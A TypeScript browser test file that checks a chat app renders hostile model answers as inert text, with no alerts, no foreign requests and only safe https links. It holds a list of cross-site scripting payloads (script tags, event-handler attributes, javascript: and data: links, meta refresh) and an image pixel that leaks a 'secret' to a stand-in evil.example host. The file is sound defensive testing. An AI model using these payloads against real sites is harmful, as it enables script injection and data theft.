import type { Page } from "playwright-core";
import { beforeEach, describe, expect, test } from "vitest";
import type { Visitor } from "../../src/browser.ts";
import { answers, ask, button, createDialog, signIn } from "../../src/screens.ts";
import type { TestPlatform } from "../support/describe-platform.ts";

/** Each would have an effect on a page that did not treat answers as text. */
const attacks = [
  "<script>alert('script')</script>",
  "<img src=x onerror=\"alert('onerror')\">",
  "<svg onload=\"alert('svg')\"><script>alert('svg script')</script></svg>",
  "<iframe src=\"javascript:alert('frame')\" srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
  "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/a.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
  "<form action=https://evil.example/><button autofocus onfocus=alert('focus')>go</button></form>",
  "<!-- <img src=x onerror=alert('comment')> --><a href=\"javascript:alert('html link')\">html</a>",
  "[script link](javascript:alert('link')) [spaced](java\nscript:alert(1)) [entity](javascript&colon;alert(1))",
  "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox)",
  "![picture](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=alert(1)>)",
  "![handler](https://evil.example/x.png\" onerror=\"alert('attribute'))",
  "<https://evil.example/auto> https://evil.example/bare [honest](https://example.com/page)",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert('cell')> | [x](javascript:alert('cell')) |",
  "```html\n<script>alert('code')</script>\n<img src=x onerror=alert('code')>\n```",
  "```\"><img src=x onerror=alert('language')>\nx\n```",
  "&lt;script&gt;alert('entities')&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
];

const ending = "Nothing happened.";

export function hostileAnswersSuite(platform: () => TestPlatform): void {
  describe("a hostile answer", () => {
    let visitor: Visitor;
    let page: Page;
    let alerts: string[];

    beforeEach(async () => {
      visitor = await platform().visit();
      page = await visitor.open();
      alerts = [];
      page.on("dialog", (dialog) => {
        alerts.push(dialog.message());
        void dialog.dismiss();
      });
      await signIn(page, "Ida");
      await createDialog(page, "Hostile");
      await ask(page, "Do your worst");
    });

    /** Dangerous elements, and elements with event handlers, in the answers. */
    const findHostile = (): Promise<string[]> =>
      answers(page).evaluateAll((all) => {
        const dangerous = "script, iframe, object, embed, style, link, meta, base, form, input:not([disabled]), img";
        const byName = all.flatMap((answer) => [...answer.querySelectorAll(dangerous)]);
        const byHandler = all
          .flatMap((answer) => [...answer.querySelectorAll("*")])
          .filter(({ attributes }) => [...attributes].some(({ name }) => name.startsWith("on") || name === "srcdoc"));
        return [...byName, ...byHandler].map((element) => element.outerHTML);
      });

    async function expectHarmless(): Promise<void> {
      expect(await findHostile()).toEqual([]);
      expect(alerts).toEqual([]);
      expect(visitor.foreignRequests).toEqual([]);
      expect(new URL(page.url()).pathname).toMatch(/^\/chat\//);
    }

    test("is shown as text, while it is streaming and afterwards", async () => {
      // The honest link is a link only after the answer was rendered as Markdown.
      const rendered = () => answers(page).filter({ hasText: ending }).getByRole("link", { name: "honest" });
      const run = await platform().worker.claim();
      const text = [...attacks, ending].join("\n\n");
      // Seven characters at a time, so that tags, links and entities are split between deltas.
      for (const delta of text.match(/[^]{1,7}/g) ?? []) await run.append(delta);
      await rendered().waitFor();
      await expectHarmless();
      await run.complete();
      await button(page, "Send").waitFor();
      await expectHarmless();
      await page.reload();
      await rendered().waitFor();
      await expectHarmless();
      expect(await answers(page).innerText()).toContain("<script>alert('script')</script>");
      const links = await answers(page)
        .getByRole("link")
        .evaluateAll((all) =>
          all.map((link) => ({ href: link.getAttribute("href"), rel: link.getAttribute("rel")?.split(" ") })),
        );
      expect(links.map(({ href }) => href)).toContain("https://example.com/page");
      for (const { href, rel } of links) {
        expect(href).toMatch(/^https:\/\//);
        expect(rel).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
      }
    });
  });
}
